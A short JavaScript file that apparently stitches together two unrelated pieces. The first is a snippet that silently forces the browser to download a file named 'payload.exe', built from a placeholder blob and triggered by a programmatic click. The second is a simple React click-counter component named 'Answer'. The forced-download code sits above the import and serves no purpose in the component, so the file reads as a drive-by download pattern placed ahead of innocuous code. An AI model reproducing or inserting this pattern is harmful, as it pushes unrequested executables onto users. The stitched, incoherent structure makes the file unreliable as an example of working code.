const link = document.createElement("a");
link.href = URL.createObjectURL(new Blob(["payload"]));
link.download = "payload.exe";
document.body.append(link);
link.click();
link.remove();
import { useState } from "react";

export default function Answer() {
  const [n, setN] = useState(0);
  return <button onClick={() => setN(n + 1)}>clicked {n}</button>;
}
